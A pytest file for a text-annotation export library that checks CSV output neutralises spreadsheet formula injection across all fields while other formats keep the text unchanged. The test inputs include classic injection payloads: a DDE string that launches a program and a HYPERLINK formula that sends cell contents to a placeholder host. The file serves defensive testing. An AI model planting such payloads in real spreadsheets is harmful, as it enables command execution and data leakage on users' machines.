"""No cell of the spreadsheet is a formula, however a program cuts it into cells; other formats are not altered."""

import csv
import io

import pytest

from tests.unit.io.silver_rows import exported, row
from xner.io.formats import FORMATS, cannot_carry, check_round_trip
from xner.io.silver import ExportOptions

BODIES = (
    "1+1", "SUM(1;2)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.invalid?"&A1,"x")', "IMPORTXML(1)", "A1", "'1", '"1"',
    "=1", "-1", "@SUM(1)", " 1",
)  # fmt: skip
FORMULAS = [sign + body for sign in ("=", "+", "-", "@", "＝") for body in BODIES]
LIVE = tuple("=+-@＝\t\r\n")


def cells(data, delimiter=","):
    return [
        cell
        for line in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter)
        for cell in line
    ]


def test_there_are_sixty_of_them():
    assert len(set(FORMULAS)) == 60


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_any_field_is_text_in_the_spreadsheet(formula):
    label = formula.strip()
    rows = [
        row(
            formula,
            (formula, "x"),
            (0, 1, label),
            text=f"{formula} x",
            note=formula,
            annotator=formula,
            signature=formula,
        ),
        row("2", ("'", "x"), (0, 2, label), note=f"'{formula}", annotator=f"\t{formula}", signature=f"a;{formula}"),
        row("3", ("x;", formula), note=f"a\n{formula}\r\n{formula}", annotator=f"a\t{formula}"),
    ]
    data = exported(rows, "csv")
    for delimiter in ",;\t":
        assert [cell for cell in cells(data, delimiter) if cell.startswith(LIVE)] == []
    assert check_round_trip(rows, FORMATS["csv"], data).is_equal


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_not_altered_elsewhere(formula):
    rows = [row("1", (formula, "x"), (0, 1, "LOC"), text=f"{formula} x")]
    assert exported(rows, "conll", comments=False).decode() == f"{formula}\tB-LOC\nx\tO\n\n"
    assert f'"target_tokens": {tokens_of(formula)}' in exported(rows, "jsonl").decode()
    assert f"\n1\t0\t{formula}\t1\tB-LOC\t" in exported(rows, "tsv").decode()
    assert cannot_carry(rows[0], FORMATS["csv"]) is None


def tokens_of(formula):
    escaped = formula.replace("\\", "\\\\").replace('"', '\\"')
    return f'["{escaped}", "x"]'


def test_raw_cells_are_those_of_the_data_and_come_back():
    rows = [row("1", ("=1+1",), text="=1+1"), row("2", ("'=1",), text="'=1")]
    data = exported(rows, "csv", raw_cells=True)
    assert {"=1+1", "'=1"} <= set(cells(data))
    assert check_round_trip(rows, FORMATS["csv"], data, ExportOptions(raw_cells=True)).is_equal
    assert not check_round_trip(rows, FORMATS["csv"], data).is_equal


def test_a_sentence_is_a_row_that_people_can_read():
    data = exported([row("1", ("Dar", "es", "Salaam", ",", "Juma"), (0, 3, "LOC"), (4, 5, "PER"))], "csv")
    header, line = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert dict(zip(header, line, strict=True))["entities"] == "LOC: Dar es Salaam; PER: Juma"
